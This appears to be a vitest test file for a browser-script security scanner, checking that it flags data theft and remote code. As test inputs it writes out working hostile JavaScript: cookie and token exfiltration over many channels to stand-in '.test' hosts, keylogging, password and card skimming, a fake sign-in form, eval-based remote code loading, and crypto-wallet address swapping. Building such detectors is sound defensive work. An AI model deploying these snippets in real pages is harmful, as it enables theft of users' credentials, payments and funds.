import { afterAll, describe, expect, it } from "vitest";
import { openTestBrowser, runBookmarklet, runSample, seen } from "./canary.test-support.ts";

const browser = openTestBrowser();
afterAll(() => browser.close());

/** Joins snippets; each runs in its own function and sends to `<name>.test`. */
const together = (snippets: Readonly<Record<string, string>>) =>
	Object.entries(snippets)
		.map(([name, body]) => `(async (at) => { ${body} })('https://${name}.test').catch(() => 0);`)
		.join("\n");
const hostsOf = (evidence: readonly { readonly host: string | null }[]) =>
	[...new Set(evidence.map(({ host }) => host?.split(".").slice(-2)[0]))].toSorted();

/** Channels by which data can leave a page; each must be detected. */
const WAYS = {
	fetch: "fetch(at + '/' + btoa(c), { mode: 'no-cors' })",
	xhr: "const x = new XMLHttpRequest(); x.open('POST', at); x.send(c)",
	header: "fetch(at, { headers: { 'x-note': c } })",
	beacon: "navigator.sendBeacon(at, new Blob([c]))",
	image: "new Image().src = at + '/?' + escape(c)",
	style: "document.body.style.background = 'url(' + at + '/' + encodeURIComponent(c) + ')'",
	sheet:
		"document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: at + '/?' + c }))",
	font: "new FontFace('x', 'url(' + at + '/' + encodeURIComponent(c) + ')').load()",
	frame: "document.body.append(Object.assign(document.createElement('iframe'), { src: at + '/?' + c }))",
	prefetch:
		"document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: at + '/?' + c }))",
	socket: "const s = new WebSocket(at.replace('https', 'wss')); s.onopen = () => s.send([...c].reverse().join(''))",
	source: "new EventSource(at + '/?' + c)",
	popup: "window.open(at + '/?' + c)",
	worker: "new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(at + '/?' + c) + ')'])))",
	form: "const f = Object.assign(document.createElement('form'), { action: at, method: 'post', target: '_blank' }); f.innerHTML = '<input name=n>'; f.firstChild.value = c; document.body.append(f); f.submit()",
	lookup:
		"document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: at.replace('lookup', token.slice(0, 20) + '.lookup') }))",
	connection:
		"document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: at.replace('connection', token.slice(0, 20) + '.connection') }))",
	peer: "new RTCPeerConnection({ iceServers: [{ urls: 'turn:peer.test', username: token, credential: 'x' }] })",
	transport: "new WebTransport(at + '/?' + token)",
	codes: "fetch(at, { method: 'POST', mode: 'no-cors', body: [...c].map((s) => s.charCodeAt(0)).join(' ') })",
	pieces: "for (const s of token) await fetch(at + '/?k=' + s, { mode: 'no-cors' })",
	window: "const w = window.open(at); setTimeout(() => w.postMessage({ c }, '*'), 600)",
};

/** Scripts that send a secret, by the kind that the report must name. */
const SECRETS = {
	typed:
		"let b = ''; addEventListener('keydown', (e) => { b += e.key; if (b.length > 30) { new Image().src = at + '/?' + b; b = '' } }, true)",
	password:
		"document.querySelector('[type=password]').addEventListener('change', (e) => navigator.sendBeacon(at, e.target.value))",
	card: "const all = []; document.querySelector('#card').addEventListener('input', (e) => all.push(e.data)); document.querySelector('#payment-form').addEventListener('submit', () => navigator.sendBeacon(at, all.join('')))",
	clipboard:
		"addEventListener('focus', async () => { const t = await navigator.clipboard.readText(); fetch(at + '/?' + t, { mode: 'no-cors' }) })",
	geolocation:
		"navigator.geolocation.getCurrentPosition(({ coords: { latitude, longitude } }) => fetch(at + '/?' + latitude + ',' + longitude))",
	token:
		"const { setRequestHeader: set } = XMLHttpRequest.prototype; XMLHttpRequest.prototype.setRequestHeader = function (n, v) { new Image().src = at + '/?' + v; return set.call(this, n, v) }",
	storage:
		"const r = indexedDB.open('app-data'); r.onsuccess = () => { r.result.transaction('drafts').objectStore('drafts').getAll().onsuccess = (e) => fetch(at, { method: 'PUT', body: JSON.stringify(e.target.result) }) }",
	media:
		"const s = await navigator.mediaDevices.getUserMedia({ audio: true }); const m = new MediaRecorder(s); m.ondataavailable = (e) => fetch(at, { method: 'POST', mode: 'no-cors', body: e.data }); m.start(200)",
	request:
		"const { fetch: f } = window; window.fetch = function (u, i) { if (i && i.body) f(at, { method: 'POST', mode: 'no-cors', body: i.body }); return f.apply(this, arguments) }",
	selection:
		"addEventListener('mouseup', () => { const t = String(getSelection()); if (t) new Image().src = at + '/?' + encodeURIComponent(t) })",
	stored: "const a = await navigator.credentials.get({ password: true }); fetch(at + '/?' + a.password)",
	paid: "const { show } = PaymentRequest.prototype; PaymentRequest.prototype.show = function () { return show.call(this).then((a) => (navigator.sendBeacon(at, JSON.stringify(a.details)), a)) }",
	page: "navigator.sendBeacon(at, document.querySelector('.mail-body').innerText)",
	address: "new Image().src = at + '/?' + encodeURIComponent(location.href)",
};

/** Ways to run code from a response. */
const CODE = {
	element: "document.head.append(Object.assign(document.createElement('script'), { src: at + '/a.js' }))",
	module: "import(at + '/a.mjs')",
	evaluated: "(0, eval)(await (await fetch(at + '/a')).text())",
	json: "const { rules: { run } } = await (await fetch(at + '/a')).json(); new Function(run)()",
	worker: "new Worker(URL.createObjectURL(new Blob(['importScripts(' + JSON.stringify(at + '/a.js') + ')'])))",
	attribute:
		"const t = await (await fetch(at + '/a.txt')).text(); const b = document.createElement('button'); b.setAttribute('onclick', t); document.body.append(b)",
	timer: "setTimeout(await (await fetch(at + '/a.txt')).text(), 10)",
	kept: "if (localStorage.kept) Function(localStorage.kept)(); localStorage.kept = await (await fetch(at + '/a.txt')).text()",
};

describe("a secret that is sent", () => {
	it("is detected on every channel", async () => {
		const report = await runSample(
			browser,
			`const c = document.cookie, token = localStorage.getItem('token');\n${together(WAYS)}`,
		);
		expect(report.answer).toBe("ran");
		expect(hostsOf(report.evidence)).toEqual(Object.keys(WAYS).toSorted());
	});

	it("is detected for every kind of secret", async () => {
		const report = await runSample(browser, together(SECRETS));
		const named = { stored: "password", paid: "card" } as Readonly<Record<string, string>>;
		const expected = Object.keys(SECRETS).map((name) => `${named[name] ?? name}>${name}.test`);
		expect(seen(report)).toEqual(expect.arrayContaining(expected));
	});

	it("is detected in a navigation of the page hours later", async () => {
		const report = await runSample(
			browser,
			"setTimeout(() => location.assign('https://gone.test/?' + document.cookie), 3600e3)",
		);
		expect(seen(report)).toContain("cookie>gone.test");
	});

	it("is detected when a form of the script asks for it, or the script answers any window's message", async () => {
		const asks =
			"document.body.insertAdjacentHTML('beforeend', '<form class=again>Your session has expired. Sign in again <input type=password name=pass><button>Sign in</button></form>'); const f = document.querySelector('.again'); f.onsubmit = (e) => { e.preventDefault(); fetch(at, { method: 'POST', mode: 'no-cors', body: f.pass.value }) }";
		const answers =
			"addEventListener('message', (e) => { if (e.data.type === 'who?') e.source.postMessage({ c: document.cookie }, '*') })";
		const report = await runSample(
			browser,
			together({ asking: `setTimeout(() => { ${asks} }, 90e3)`, answering: answers }),
		);
		expect(seen(report)).toEqual(expect.arrayContaining(["password>asking.test", "cookie>widgets.partner-site.test"]));
	});

	it("is detected through the userscript API on another visit a day later", async () => {
		const body = `GM_setValue('seen', GM_getValue('seen', '') + document.cookie);
			const last = GM_getValue('last', 0); if (Date.now() - last > 864e5) { GM_setValue('last', Date.now()); if (last) GM_xmlhttpRequest({ method: 'POST', url: 'https://x.test/day', data: GM_getValue('seen') }); }`;
		const lines = ["@match https://*/*", "@grant GM_xmlhttpRequest", "@connect x.test"];
		expect(seen(await runSample(browser, body, lines))).toEqual(["cookie>x.test"]);
	});

	it("is detected when a bookmarklet sends it", async () => {
		const report = await runBookmarklet(
			browser,
			"javascript:void(new Image().src='https://x.test/?'+document.querySelector('#password').value)",
		);
		expect(seen(report)).toEqual(["password>x.test"]);
	});

	it("is detected when a framed page posts it to its parent", async () => {
		const body =
			"if (window !== window.top) addEventListener('change', (e) => parent.postMessage({ v: e.target.value }, '*'))";
		expect(seen(await runSample(browser, body))).toEqual(["typed>portal.partner-site.test"]);
	});
});

describe("code of other sites", () => {
	it("is detected on every way of running it", async () => {
		const { evidence } = await runSample(browser, together(CODE));
		expect(hostsOf(evidence.filter(({ what }) => what === "remote-code"))).toEqual(Object.keys(CODE).toSorted());
	});

	it("is detected when the script runs content of an address or a message", async () => {
		const address =
			"if (location.hash.length > 1) document.body.insertAdjacentHTML('beforeend', decodeURIComponent(location.hash.slice(1)))";
		const { evidence } = await runSample(browser, address);
		expect(evidence).toMatchObject([{ what: "injected-code", via: "the address of the page" }]);
		const message = "addEventListener('message', ({ data }) => { if (data.action === 'run') Function(data.detail)() })";
		const messaged = await runSample(browser, message);
		expect(messaged.evidence).toMatchObject([{ what: "injected-code", via: "a message of another window" }]);
	});

	it("is not reported when its integrity is pinned or it comes from a public store", async () => {
		const body = `document.head.append(Object.assign(document.createElement('script'), { src: 'https://x.test/a.js', integrity: 'sha384-${"A".repeat(64)}', crossOrigin: 'anonymous' }), Object.assign(document.createElement('script'), { src: 'https://unpkg.com/lodash@4.17.21/lodash.js' }))`;
		expect(seen(await runSample(browser, body))).toEqual([]);
	});
});

describe("a wallet", () => {
	it("is protected: payments, clipboard, page and the script's own transactions are checked", async () => {
		const other = "'0x' + 'ab'.repeat(20)";
		const { evidence } = await runSample(
			browser,
			together({
				payment: `const p = window.ethereum, r = p.request.bind(p); p.request = (c) => { if (c.params && c.params[0].value) c.params[0].to = ${other}; return r(c) }`,
				copying: `addEventListener('copy', (e) => { e.clipboardData.setData('text/plain', String(getSelection()).replace(/0x[0-9a-f]{40}/i, ${other})); e.preventDefault() })`,
				page: "const e = document.querySelector('#btc-address'); e.textContent = '1F7mXk2QpVz9LrTd4Yb8NcWs6GhJa3UeRt'",
				approval: `window.ethereum.request({ method: 'eth_sendTransaction', params: [{ to: ${other}, data: '0x095ea7b3' }] })`,
			}),
		);
		const texts = evidence.map(({ description }) => description).join("\n");
		for (const what of [
			"page's own payment was changed",
			"what was copied became",
			"the page shows became",
			"a transaction of its own",
		])
			expect(texts).toContain(what);
	});
});
